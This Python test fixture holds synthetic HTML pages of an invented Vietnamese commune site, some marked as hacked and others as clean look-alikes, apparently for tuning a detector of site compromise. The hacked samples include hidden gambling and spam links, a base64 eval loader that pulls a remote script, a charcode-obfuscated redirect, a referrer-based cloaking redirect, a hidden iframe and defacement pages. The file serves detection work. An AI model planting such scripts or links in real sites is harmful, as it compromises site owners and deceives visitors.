"""Pages nobody tuned the lens on: written after it, from public write-ups of real intrusions and from real agency pages.

Sources of the patterns (shapes, not copies): Sucuri and mdpabel write-ups of hidden SEO links and of CSS written by
script; Google's guides on the Japanese keyword and the gibberish hack; threads uBlockOrigin/uAssets#20036, ckan/ckan#8089,
bigdargon/hostsVN#326 and #366 (names of betting hosts); press on gov.vn cases of 2020 and 2023. Agencies and words are invented.
"""

from dataclasses import dataclass

# ruff: noqa: E501 - a page in one line reads as it came

HEAD = '<!DOCTYPE html><html lang="vi-VN"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width"><title>{title}</title>{head}</head>'
NAV = (
    '<nav class="navbar"><ul>'
    + "".join(
        f'<li><a href="/{slug}">{name}</a></li>'
        for slug, name in (
            ("gioi-thieu", "Giới thiệu"),
            ("tin-tuc-su-kien", "Tin tức - Sự kiện"),
            ("van-ban-chi-dao", "Văn bản chỉ đạo điều hành"),
            ("thu-tuc-hanh-chinh", "Thủ tục hành chính"),
            ("hoi-dap", "Hỏi đáp"),
            ("lich-cong-tac", "Lịch công tác"),
        )
    )
    + "</ul></nav>"
)
BODY = "".join(
    f'<div class="item"><h3><a href="/tin/{n}">{title}</a></h3><p>{text}</p></div>'
    for n, (title, text) in enumerate(
        (
            (
                "Lãnh đạo tỉnh thăm, chúc Tết các gia đình chính sách",
                "Đoàn công tác đã đến thăm và tặng quà tại năm xã, phường.",
            ),
            (
                "Triển khai tiêm vắc-xin cho trẻ em",
                "Trung tâm y tế khu vực tổ chức tiêm tại trạm từ ngày 5 đến ngày 12.",
            ),
            (
                "Công khai dự toán ngân sách",
                "Số liệu được công khai theo quy định của pháp luật về ngân sách nhà nước.",
            ),
        )
    )
)
FOOT = '<footer class="footer"><p>Cơ quan chủ quản: Ủy ban nhân dân xã Tân Mẫu</p><p>Điện thoại: 0220.3123.456</p></footer>'


@dataclass(frozen=True)
class Page:
    """One page; `bad` pages must be found by any check, clean ones by none."""

    name: str
    html: str
    bad: bool = False


def whole(
    extra: str = "", *, head: str = "", title: str = "Trang thông tin điện tử xã Tân Mẫu", tail: str = ""
) -> str:
    return f"{HEAD.format(title=title, head=head)}<body>{NAV}<main>{BODY}{extra}</main>{FOOT}</body></html>{tail}"


def bad(name: str, html: str) -> Page:
    return Page(name, html, bad=True)


BAD = (
    bad(
        "css written by script moves a box away",
        whole(
            '<div id="M6bMm64Iekl"><p><a href="https://bet-shop-online.net/">xem tại đây</a></p></div><script>function oeY(){var h=document.getElementsByTagName("hea"+"d")[0];var r="#M6bMm64Iekl{margin:0px 20px;position:fixed;overflow:hidden;top:-152413851px;display:block;z-index:412406018;}";var s=document.createElement("st"+"yl"+"e");s.type="text/css";s.appendChild(document.createTextNode(r));h.appendChild(s);}oeY();</script>'
        ),
    ),
    bad(
        "script of a host of digits",
        whole(head='<script type="text/javascript" src="https://www.070880.com/br.js"></script>'),
    ),
    bad(
        "betting hosts in a hidden list",
        whole(
            '<ul style="position: absolute; left: -30000px;"><li><a href="https://fabet.tv/">fabet</a></li><li><a href="https://may88.vip">may88</a></li><li><a href="https://oxbet.win/">oxbet</a></li></ul>'
        ),
    ),
    bad(
        "one open link to a betting host",
        whole('<p>Đối tác: <a href="https://sky88.top/dang-ky">Sky88</a></p>'),
    ),
    bad(
        "toto pages among uploads",
        whole(
            "".join(
                f'<a href="/uploads/user/2026-02-2{n}-pajaktoto{n}.html">pajaktoto slot gacor hari ini</a> '
                for n in range(5)
            )
        ),
    ),
    bad(
        "brand links after the footer in white",
        whole(
            '<div style="color:#ffffff; background-color:#FFFFFF"><a href="https://mm88vip.bet/">MM88</a> <a href="https://bong99.vin">BONG99</a></div>'
        ),
    ),
    bad(
        "xoso page title swapped",
        whole(
            '<p><a href="https://xosodaiphat.live">Soi cầu lô đề, dự đoán XSMB hôm nay chính xác 100%</a></p>',
            title="Soi cầu XSMB hôm nay | Dự đoán xổ số miền Bắc",
        ),
    ),
    bad(
        "nha cai article on an inner template",
        whole(
            '<article><h1>Top 10 nhà cái uy tín nhất Việt Nam</h1><p>Đăng ký <a href="https://uw88vnn.com/">tại đây</a> để nhận thưởng nạp đầu 100%.</p></article>',
            title="Top 10 nhà cái uy tín nhất Việt Nam 2026",
        ),
    ),
    bad(
        "Thai baccarat in the footer",
        whole('<div class="f"><a href="https://ufa-th.vip/">บาคาร่าออนไลน์ เว็บตรง</a></div>'),
    ),
    bad(
        "Korean toto in a closed box",
        whole(
            '<div style="display:none;"><a href="https://toto-site.kr.example/">안전놀이터 토토사이트 추천</a></div>'
        ),
    ),
    bad(
        "Chinese betting keywords in the head",
        whole(
            head='<meta name="description" content="澳门威尼斯人网上赌场,真人百家乐,体育博彩平台首页">',
            title="澳门威尼斯人网上赌场-首页",
        ),
    ),
    bad(
        "Japanese brand copies",
        whole(
            '<div style="overflow:auto;position:absolute;height:0pt;width:0pt"><a href="http://kopi-brand.shop/">ルイヴィトン コピー 財布 通販</a></div>'
        ),
    ),
    bad(
        "base64 loader",
        whole(
            '<script>var _a=atob("ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwczovL3N0YXQtdHJhY2submV0L2ouanMiPjxcL3NjcmlwdD4nKQ==");eval(_a);</script>'
        ),
    ),
    bad(
        "referrer test with a dictionary of engines",
        whole(
            '<script>var s=document.referrer;if(s.indexOf("google.")!=-1||s.indexOf("bing.")!=-1||s.indexOf("coccoc.")!=-1){self.location="https://go-win79.club/?aff=12";}</script>'
        ),
    ),
    bad(
        "redirect written by String.fromCharCode",
        whole(
            "<script>eval(String.fromCharCode(119,105,110,100,111,119,46,108,111,99,97,116,105,111,110,61,34,104,116,116,112,115,58,47,47,114,114,56,56,46,115,104,111,112,34))</script>"
        ),
    ),
    bad(
        "hidden frame of a casino",
        whole(
            '<iframe src="https://sunwin-club.vin/" width="1" height="1" frameborder="0" style="visibility:hidden"></iframe>'
        ),
    ),
    bad(
        "meta refresh in the body to a shop",
        whole('<meta http-equiv="refresh" content="3; url=https://thuoc-nam-khoa.shop/">'),
    ),
    bad(
        "defaced, all of the page",
        '<html><head><title>Owned by XxX_Cyber_Team</title></head><body bgcolor="black"><center><h1>Hacked By XxX Cyber Team</h1><p>Your security is low. Patch it admin!</p></center></body></html>',
    ),
    bad(
        "defaced file that calls itself greetz",
        '<title>./404Crew was here</title><body style="background:#000;color:#0f0"><h2>pwned by ./404Crew</h2><p>greetz to all members</p>',
    ),
    bad(
        "pharma in a marquee",
        whole(
            '<marquee style="position: absolute; width: 0px;" height="0"><a href="https://rx-meds.store/">buy cialis online without prescription</a></marquee>'
        ),
    ),
    bad(
        "loan spam",
        whole('<p><a href="https://vaynhanh247.site/">Vay tiền online nhanh trong ngày chỉ cần CMND</a></p>'),
    ),
    bad(
        "fake degrees",
        whole(
            '<p>Nhận <a href="https://lambang-uytin.info/">làm bằng đại học giả, làm giấy tờ giả uy tín</a></p>'
        ),
    ),
    bad(
        "adult links below the page",
        whole(
            tail='<div><a href="https://phim18.cc/">phim sex không che vietsub</a><a href="https://gaigoi.top">gái gọi sinh viên</a></div>'
        ),
    ),
    bad(
        "dotted brand names",
        whole('<p><a href="https://trangchu-k8.com/">K.U.B.E.T – Nhà cái số 1 châu Á</a></p>'),
    ),
    bad(
        "links in tiny type",
        whole(
            '<p style="font-size:1px;line-height:1px">tài xỉu, nổ hũ: <a href="https://choi-ngay.info">chơi ngay</a> <a href="https://rikvip-tai.net">Rikvip</a></p>'
        ),
    ),
    bad(
        "slot pages in the menu of Indonesia",
        whole(
            '<div style="text-indent:-99999px"><a href="https://sl-gacor77.lol/">slot gacor maxwin deposit pulsa tanpa potongan</a></div>'
        ),
    ),
    bad(
        "Russian casino",
        whole(
            '<div style="opacity:0;height:0;overflow:hidden"><a href="https://kazino-vulkan.ru.example/">казино вулкан играть онлайн на деньги</a></div>'
        ),
    ),
    bad(
        "telegram bot of bettors",
        whole('<p><a href="https://789club-tai.app/">Tải 789Club APK/IOS nhận code 50k</a></p>'),
    ),
    bad(
        "cockfights live",
        whole('<p>Xem <a href="https://daga-truc-tiep.tv/">đá gà trực tiếp Thomo hôm nay</a></p>'),
    ),
    bad(
        "opacity and pointer events",
        whole(
            '<div style="opacity:0.001;pointer-events:none;position:fixed;bottom:0"><a href="https://b52-club.fan/">game bài B52</a></div>'
        ),
    ),
)

CLEAN = (
    Page(
        "police page on a betting ring",
        whole(
            '<h2>Triệt phá đường dây cá độ bóng đá nghìn tỷ</h2><p>Các đối tượng lập trang bong88 để tổ chức đánh bạc. Xem thêm: <a href="https://vnexpress.net/phap-luat">VnExpress</a></p>'
        ),
    ),
    Page(
        "warning with names of bad sites in a table",
        whole(
            "<h2>Danh sách trang web cờ bạc, lừa đảo bị ngăn chặn</h2><table>"
            + "".join(
                f"<tr><td>{h}</td></tr>" for h in ("fabet.tv", "may88.vip", "sky88.top", "kubet.example")
            )
            + "</table>"
        ),
    ),
    Page(
        "lottery company",
        whole(
            '<h2>Kết quả xổ số kiến thiết ngày 20/11</h2><table><tr><td>ĐB</td><td>12345</td></tr></table><a href="https://www.minhngoc.net.vn/">Kết quả xổ số các tỉnh</a>',
            title="Công ty TNHH MTV Xổ số kiến thiết tỉnh Mẫu",
        ),
    ),
    Page(
        "decree on bets",
        whole(
            '<a href="https://thuvienphapluat.vn/van-ban/nd-06-2017">Nghị định về kinh doanh đặt cược đua ngựa, đua chó và bóng đá quốc tế</a>'
        ),
    ),
    Page(
        "casino project of the province",
        whole(
            '<h2>Điều chỉnh quy hoạch khu nghỉ dưỡng có casino</h2><p>Nhà đầu tư: <a href="https://corona-resort.com/">Corona Resort &amp; Casino</a></p>'
        ),
    ),
    Page(
        "tourism, four languages",
        whole(
            '<ul class="lang"><li><a href="/en">English</a></li><li><a href="/zh">中文</a></li><li><a href="/ko">한국어</a></li><li><a href="/ja">日本語</a></li></ul><p>欢迎光临 Welcome 환영합니다 ようこそ</p><a href="https://www.tripadvisor.com/">Tripadvisor</a>'
        ),
    ),
    Page(
        "hotel links for visitors",
        whole(
            "".join(
                f'<a href="https://{h}.com/">{h}</a> '
                for h in ("muongthanh", "vinpearl", "booking", "agoda", "traveloka")
            )
        ),
    ),
    Page(
        "vendor's own farm in the footer",
        whole(
            '<div class="dev">Phát triển bởi <a href="https://thietkeweb-mau.com/">Công ty Mẫu</a> | <a href="https://hosting-mau.net/">Hosting</a> | <a href="https://tenmien-mau.net">Tên miền</a></div>'
        ),
    ),
    Page(
        "CDN libraries with hashes",
        whole(
            head='<script src="https://cdnjs.cloudflare.com/ajax/libs/jquery/3.6.0/jquery.min.js"></script><script src="https://unpkg.com/swiper@8/swiper-bundle.min.js"></script><script src="https://code.jquery.com/ui/1.13/jquery-ui.min.js"></script>'
        ),
    ),
    Page(
        "modal with an outside survey",
        whole(
            '<div class="modal" style="display:none"><a href="https://forms.office.com/r/abc">Khảo sát hài lòng</a><a href="https://docs.google.com/forms/d/1">Biểu mẫu</a></div>'
        ),
    ),
    Page(
        "sr-only links",
        whole(
            "<style>.sr-only{position:absolute;width:1px;height:1px;clip:rect(0,0,0,0);overflow:hidden}</style>"
            '<a class="sr-only" href="https://www.facebook.com/xatanmau">Facebook</a><a class="sr-only" href="#main">Nội dung chính</a>'
        ),
    ),
    Page(
        "closed menu of ministries",
        whole(
            '<select><option value="https://moh.gov.vn">Bộ Y tế</option></select><ul class="sub" style="display:none"><li><a href="https://moh.gov.vn">Bộ Y tế</a></li><li><a href="https://mic.gov.vn">Bộ</a></li></ul>'
        ),
    ),
    Page(
        "slider with clones",
        whole(
            '<div class="slick-slide slick-cloned" style="opacity:0;position:relative;left:-1170px"><a href="/su-kien/1">Lễ hội</a></div>'
        ),
    ),
    Page(
        "counter of visitors",
        whole(
            '<a href="https://www.histats.com" target="_blank"><img src="https://sstatic1.histats.com/0.gif?1&101" border="0" alt="" width="1" height="1"></a><script>var _Hasync=_Hasync||[];_Hasync.push(["Histats.start","1,1,4,0,0,0,00010000"]);</script>'
        ),
    ),
    Page(
        "Zalo chat",
        whole(
            '<div class="zalo-chat-widget" data-oaid="1"></div><script src="https://sp.zalo.me/plugins/sdk.js"></script>'
        ),
    ),
    Page(
        "mail address in disguise",
        whole(
            '<script>document.write("<a href=\'mailto:"+String.fromCharCode(118,97,110,116,104,117,64,109,97,117,46,103,111,118,46,118,110)+"\'>Thư</a>");</script>'
        ),
    ),
    Page(
        "webpack bundle",
        whole(
            '<script>!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,(function(){var a="\\u0110\\u0103ng nh\\u1eadp";return{a:a}}));</script>'
        ),
    ),
    Page(
        "language switch by location",
        whole(
            '<select onchange="location=this.value"><option value="/vi">Tiếng Việt</option></select><script>function go(u){window.location.href=u}</script>'
        ),
    ),
    Page(
        "log-in at the province's gate",
        whole('<script>function login(){window.location="https://sso.tinhmau.gov.vn/cas/login";}</script>'),
    ),
    Page(
        "refresh for the board of schedules",
        whole(head='<meta http-equiv="refresh" content="600;url=/lich-cong-tac">'),
    ),
    Page(
        "football of the agencies' cup",
        whole(
            '<p>Giải bóng đá các cơ quan: <a href="https://bongdaplus.vn/">Bóng đá Plus</a> đưa tin tỷ số, kèm dự đoán kết quả trận chung kết.</p>'
        ),
    ),
    Page(
        "betting in a fable of the elders",
        whole(
            "<p>Hội làng có tổ chức chọi gà, đánh cờ người, bắt vịt; nghiêm cấm cá độ, đánh bạc dưới mọi hình thức.</p>"
        ),
    ),
    Page(
        "drug list of a tender",
        whole(
            '<p>Gói thầu: Tadalafil 20mg, Sildenafil 50mg, Misoprostol.</p><a href="https://muasamcong.mpi.gov.vn">Mua sắm công</a>'
        ),
    ),
    Page(
        "warning against fake degrees",
        whole(
            '<p>Công an cảnh báo dịch vụ <a href="https://tuoitre.vn/1">làm bằng giả, giấy tờ giả</a> trên mạng.</p>'
        ),
    ),
    Page(
        "loans of the bank for the poor",
        whole(
            '<a href="https://vbsp.org.vn/">Vay vốn tín dụng chính sách, vay tiền cho học sinh, sinh viên</a>'
        ),
    ),
    Page(
        "weather and gold widgets of strangers",
        whole(
            '<script src="https://widget.thoitiet-mau.com/w.js"></script><iframe src="https://tygia-mau.com/widget" width="200" height="100"></iframe>'
        ),
    ),
    Page(
        "accessibility reader",
        whole(
            '<div style="display:none"><audio src="https://tts-mau.com/1.mp3"></audio><a href="https://tts-mau.com/">Nghe đọc bài</a></div>'
        ),
    ),
    Page(
        "English edition",
        whole(
            "<p>" + "The commune welcomes investors and visitors from all over the world. " * 20 + "</p>"
        ).replace('lang="vi-VN"', 'lang="en"'),
    ),
    Page(
        "numbers that look like brands",
        whole(
            '<p>Quyết định 789/QĐ-UBND, Thông tư 88, đường ĐT 188, Zalo 1022, biển số 33A-678.99, tổ hợp 98 căn.</p><a href="https://dau-thau-mau.com/qd-789">Quyết định 789</a>'
        ),
    ),
    Page(
        "incident drill",
        whole(
            "<h2>Diễn tập ứng cứu sự cố: trang bị hacked, deface giả định</h2><p>Đội ứng cứu xử lý tình huống trang bị thay đổi giao diện, chèn chữ Hacked by.</p>"
            * 3
        ),
    ),
    Page(
        "partners of a fair",
        whole(
            "".join(
                f'<a href="https://doanhnghiep-{n}.com/"><img src="/logo/{n}.png" alt="Doanh nghiệp {n}"></a>'
                for n in range(14)
            )
        ),
    ),
)
